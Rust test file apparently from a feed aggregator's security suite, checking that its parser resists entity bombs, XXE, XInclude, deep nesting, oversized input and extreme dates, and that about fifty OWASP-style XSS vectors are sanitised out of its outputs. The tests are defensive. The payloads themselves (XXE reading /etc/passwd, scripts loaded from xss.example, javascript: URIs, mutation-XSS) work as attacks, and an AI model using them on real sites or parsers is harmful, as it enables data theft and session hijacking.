//! Hostile input: nothing a source sends may crash, hang, exhaust memory, expand entities,
//! fetch anything, or put markup that runs into our outputs. Each case also guards against
//! hangs with a generous deadline (a hang guard, not a performance assertion).

use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use feedloom::model::Parsed;

use crate::support::{Workspace, detector, stderr};

fn now() -> DateTime<Utc> {
    "2026-01-01T00:00:00Z".parse().unwrap()
}

fn parse(doc: &str) -> Result<Parsed, String> {
    let started = Instant::now();
    let d = detector();
    let r = feedloom::pipeline::parse_source(
        doc.as_bytes(),
        None,
        None,
        None,
        &d,
        Some(200),
        &Default::default(),
        now(),
    )
    .map_err(|e| e.to_string());
    assert!(started.elapsed() < Duration::from_secs(30), "no hang");
    r
}

fn rss(items: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>T</title>\
         <link>https://h.example/</link><description>d</description>{items}</channel></rss>"
    )
}

fn unsafe_markup(html: &str) -> Option<String> {
    feedloom::normalize::html::first_unsafe_markup(html)
}

#[test]
fn entity_bombs_are_never_expanded() {
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">\
        <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\
        <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\
        <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\
        <!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>\
        <rss version=\"2.0\"><channel><title>&lol9;</title><link>https://h.example/</link>\
        <item><title>&lol9;</title><description>&lol9;&lol9;</description></item></channel></rss>";
    let p = parse(laughs).unwrap();
    let json = serde_json::to_string(&p).unwrap();
    assert!(
        json.len() < 10_000,
        "nothing expanded: {} bytes",
        json.len()
    );
    assert!(!json.contains("lollol"));
    let quadratic = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"{}\">]><rss version=\"2.0\"><channel>\
         <title>x</title><item><title>t</title><description>{}</description></item></channel></rss>",
        "a".repeat(10_000),
        "&a;".repeat(10_000)
    );
    let p = parse(&quadratic).unwrap();
    assert!(serde_json::to_string(&p).unwrap().len() < 1_000_000);
}

#[test]
fn external_entities_xinclude_and_stylesheets_are_ignored() {
    let xxe = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:9/x.xsl\"?>\
        <!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ENTITY web SYSTEM \"http://127.0.0.1:9/\">]>\
        <rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><channel><title>&xxe;</title>\
        <link>https://h.example/</link><item><title>&web;</title>\
        <description><xi:include href=\"file:///etc/passwd\" parse=\"text\"/>ok</description></item>\
        </channel></rss>";
    let p = parse(xxe).unwrap();
    let json = serde_json::to_string(&p).unwrap();
    assert!(!json.contains("root:"), "no file was read");
}

#[test]
fn deep_nesting_huge_counts_and_huge_fields_are_bounded() {
    // 100,000 nested elements inside an item and inside its HTML.
    let deep_xml = format!("{}{}", "<x>".repeat(100_000), "</x>".repeat(100_000));
    let deep_html = html_escape::encode_text(&format!(
        "{}deep{}",
        "<div>".repeat(50_000),
        "</div>".repeat(50_000)
    ))
    .into_owned();
    let p = parse(&rss(&format!(
        "<item><title>Deep</title>{deep_xml}<description>{deep_html}</description></item>"
    )))
    .unwrap();
    assert_eq!(p.items.len(), 1);
    // 50,000 items: the newest 200 are kept.
    let many: String = (0..50_000)
        .map(|n| format!("<item><guid>g{n}</guid><title>Item {n}</title></item>"))
        .collect();
    let p = parse(&rss(&many)).unwrap();
    assert_eq!(p.items.len(), 200);
    // A 12 MiB title.
    let huge = "Б".repeat(6 << 20);
    let p = parse(&rss(&format!("<item><title>{huge}</title></item>"))).unwrap();
    assert!(p.items[0].title.chars().count() <= 1001);
    // Millions of empty elements stop at the element cap.
    let flood = "<a/>".repeat(2_000_000);
    let _ = parse(&rss(&format!("<item><title>f</title>{flood}</item>")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configured_parse_limits_apply_and_are_logged_with_the_source() {
    let ws = Workspace::new();
    let deep = format!("{}{}", "<x>".repeat(30), "</x>".repeat(30));
    let long_title = "Б".repeat(3000);
    let mut items = format!("<item><guid>long</guid><title>{long_title}</title>{deep}</item>");
    for n in 0..100 {
        items.push_str(&format!(
            "<item><guid>g{n}</guid><title>Item {n}</title></item>"
        ));
    }
    ws.write("big.xml", &rss(&items));
    ws.write(
        "config.toml",
        "[settings]\nmax_xml_depth = 16\nmax_xml_elements = 150\nmax_field_bytes = 2048\n\
         parse_timeout = \"5s\"\n[[source]]\nname = \"big-one\"\nurl = \"big.xml\"\n\
         [[feed]]\nname = \"all\"\ntitle = \"All\"\ndedupe = \"off\"\nlimit = 500\n",
    );
    let out = ws.run(&["-v", "refresh"]).await;
    let log = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{log}");
    for hit in ["max_xml_depth", "max_field_bytes", "max_xml_elements"] {
        assert!(
            log.lines()
                .any(|l| l.contains(hit) && l.contains("big-one")),
            "no log line names {hit} and the source: {log}"
        );
    }
    let json: serde_json::Value = serde_json::from_str(&ws.read("public/all.json")).unwrap();
    let items = json["items"].as_array().unwrap();
    // 150 elements: the channel's 4, then 3 per item (the first one has its 16 levels too).
    assert!(
        items.len() > 30 && items.len() < 60,
        "{} items",
        items.len()
    );
    let long = items
        .iter()
        .filter_map(|i| i["title"].as_str())
        .find(|t| t.starts_with("ББ"))
        .expect("the long item");
    assert!(long.len() <= 2048, "{} bytes", long.len());

    // A bound out of range is a config error naming the key.
    ws.write(
        "config.toml",
        "[settings]\nmax_xml_depth = 2\n[[source]]\nname = \"a\"\nurl = \"big.xml\"\n",
    );
    let out = ws.run(&["check"]).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("max_xml_depth"), "{}", stderr(&out));
}

#[test]
fn parse_timeout_keeps_what_was_read_in_time() {
    // Enough work that normalising all of it takes far longer than the bound.
    let body = "<p>Paragraph of a long story about nothing much, told at length.</p>".repeat(200);
    let many: String = (0..3000)
        .map(|n| format!("<item><guid>g{n}</guid><title>Item {n}</title><description>{}</description></item>", html_escape::encode_text(&body)))
        .collect();
    let limits = feedloom::parse::Limits {
        max_time: Duration::from_millis(100),
        ..Default::default()
    };
    let started = Instant::now();
    let p = feedloom::pipeline::parse_source(
        rss(&many).as_bytes(),
        None,
        None,
        None,
        &detector(),
        None,
        &limits,
        now(),
    );
    let took = started.elapsed();
    let n = p.map(|p| p.items.len()).unwrap_or(0);
    assert!(
        n < 3000,
        "all {n} items normalised: the bound did not apply"
    );
    assert!(took < Duration::from_secs(20), "no hang: {took:?}");
}

const XSS: &[&str] = &[
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<img src=\"x:x\" onerror=\"alert(1)\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<xss style=\"behavior: url(xss.htc);\">x</xss>",
    "<img srcset=\"javascript:alert(1) 1x, https://ok.example/a.jpg 2x\">",
    "<a href=\"https://ok.example/\" target=\"_blank\">fine</a><base href=\"https://evil.example/\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<object data=\"javascript:alert(1)\"></object>",
];

#[test]
fn owasp_vectors_never_reach_a_reader() {
    for (n, v) in XSS.iter().enumerate() {
        let esc = html_escape::encode_text(v);
        let doc = rss(&format!(
            "<item><guid>x{n}</guid><title>{esc}</title><link>javascript:alert({n})</link>\
             <description>{esc}</description>\
             <enclosure url=\"javascript:alert(1)\" type=\"audio/mpeg\" length=\"1\"/></item>"
        ));
        let p = parse(&doc).unwrap();
        let it = &p.items[0];
        let html = it.content_html.as_deref().unwrap_or("");
        assert_eq!(unsafe_markup(html), None, "vector {n}: {v}\n-> {html}");
        assert!(it.link.is_none(), "vector {n}: javascript: link dropped");
        assert!(
            it.enclosures.is_empty(),
            "vector {n}: javascript: enclosure dropped"
        );
        assert!(
            !it.title.contains('<') || !it.title.to_lowercase().contains("<script"),
            "titles are plain text: {}",
            it.title
        );
    }
}

/// The same vectors in a served feed: every output format and the HTML page stay safe.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outputs_carry_no_runnable_markup() {
    let ws = Workspace::new();
    let items: String = XSS
        .iter()
        .enumerate()
        .map(|(n, v)| {
            let esc = html_escape::encode_text(v);
            format!(
                "<item><guid>x{n}</guid><title>{esc}</title><link>https://h.example/{n}</link>\
                 <pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate><description>{esc}</description></item>"
            )
        })
        .collect();
    ws.write("x.xml", &rss(&items));
    ws.write(
        "config.toml",
        "[[source]]\nname = \"x\"\nurl = \"x.xml\"\n[[feed]]\nname = \"all\"\ntitle = \"All\"\n",
    );
    let out = ws.run(&["refresh"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let json: serde_json::Value = serde_json::from_str(&ws.read("public/all.json")).unwrap();
    for it in json["items"].as_array().unwrap() {
        let html = it["content_html"].as_str().unwrap_or("");
        assert_eq!(unsafe_markup(html), None, "json: {html}");
    }
    // XML outputs: the HTML inside <content>/<content:encoded>/<description>, once unescaped.
    for file in ["public/all.atom", "public/all.rss"] {
        let xml = ws.read(file);
        assert!(
            !xml.contains("<script") && !xml.contains("<SCRIPT"),
            "{file}: raw markup"
        );
        let unescaped = html_escape::decode_html_entities(&xml).into_owned();
        for chunk in unescaped.split("<![CDATA[").skip(1) {
            let body = chunk.split("]]>").next().unwrap_or("");
            assert_eq!(unsafe_markup(body), None, "{file}: {body}");
        }
    }
    let page = ws.read("public/index.html");
    let body = page.split("</head>").nth(1).unwrap();
    assert_eq!(unsafe_markup(body), None, "index.html");
}

#[test]
fn extreme_dates_never_panic() {
    for d in [
        "9999-12-31T23:59:59Z",
        "+275760-09-13T00:00:00Z",
        "-5000-01-01T00:00:00Z",
        "0000-00-00",
        "1969-07-20T20:17:00Z",
        "1901-12-13T20:45:52Z",
        "Fri, 31 Dec 99999 23:59:59 GMT",
        "Mon, 01 Jan 1900 00:00:00 +9999",
        "2025-05-30T10:15:00+99:99",
    ] {
        let p = parse(&rss(&format!(
            "<item><title>t</title><pubDate>{d}</pubDate></item>"
        )))
        .unwrap();
        if let Some(got) = p.items[0].published {
            assert!(got <= now(), "{d}: future dates are clamped");
            assert!(
                got.timestamp() > 86_400,
                "{d}: the epoch or earlier is no date"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guid_collisions_across_sources_overwrite_nothing() {
    let ws = Workspace::new();
    let same = |title: &str| {
        rss(&format!(
            "<item><guid>shared-1</guid><title>{title}</title><link>https://h.example/1</link></item>\
                                           <item><guid>shared-1</guid><title>{title} again</title></item>"
        ))
    };
    ws.write("a.xml", &same("From A"));
    ws.write("b.xml", &same("From B"));
    ws.write(
        "config.toml",
        "[[source]]\nname = \"a\"\nurl = \"a.xml\"\n[[source]]\nname = \"b\"\nurl = \"b.xml\"\n\
         [[feed]]\nname = \"all\"\ntitle = \"All\"\ndedupe = \"off\"\n",
    );
    assert_eq!(ws.run(&["refresh"]).await.status.code(), Some(0));
    let json: serde_json::Value = serde_json::from_str(&ws.read("public/all.json")).unwrap();
    let titles: Vec<&str> = json["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap())
        .collect();
    for t in ["From A", "From A again", "From B", "From B again"] {
        assert!(titles.contains(&t), "{t} missing from {titles:?}");
    }
    let ids: std::collections::HashSet<&str> = json["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 4, "four distinct ids");
}

/// Every input a fuzzer found a problem with is kept under `tests/fixtures/fuzz/<target>/` and
/// replayed through that target's own checks (`fuzz/harness.rs`) from then on.
#[test]
fn fuzz_findings_stay_fixed() {
    let dir = crate::support::repo().join("tests/fixtures/fuzz");
    let files = |target: &str| -> Vec<std::path::PathBuf> {
        std::fs::read_dir(dir.join(target))
            .map(|d| d.flatten().map(|e| e.path()).collect())
            .unwrap_or_default()
    };
    for path in files("decode_parse") {
        crate::fuzz_harness::decode_parse(&std::fs::read(&path).unwrap());
    }
    let normalize_cases = files("normalize");
    assert!(!normalize_cases.is_empty());
    for path in normalize_cases {
        eprintln!("replaying {}", path.display());
        crate::fuzz_harness::normalize_item(&std::fs::read(&path).unwrap());
    }
}
